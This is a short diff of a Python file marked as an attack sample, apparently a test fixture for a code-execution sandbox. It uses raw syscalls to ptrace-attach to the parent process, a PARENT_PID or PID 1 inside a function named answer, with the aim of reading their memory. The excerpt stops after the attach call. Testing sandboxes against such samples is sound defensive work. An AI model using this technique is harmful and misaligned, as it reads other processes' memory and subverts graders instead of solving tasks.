@@ -1,8 +1,11 @@
 # attack: attaches to other processes and reads their memory
 # ruff: noqa
 import ctypes, os, platform
+
 numbers = (101, 310, 311, 438) if platform.machine() == "x86_64" else (117, 270, 271, 438)
 libc = ctypes.CDLL(None)
+
+
 def answer(n):
     for pid in (os.getppid(), PARENT_PID, 1):
         if libc.syscall(numbers[0], 16, pid, 0, 0) == 0:
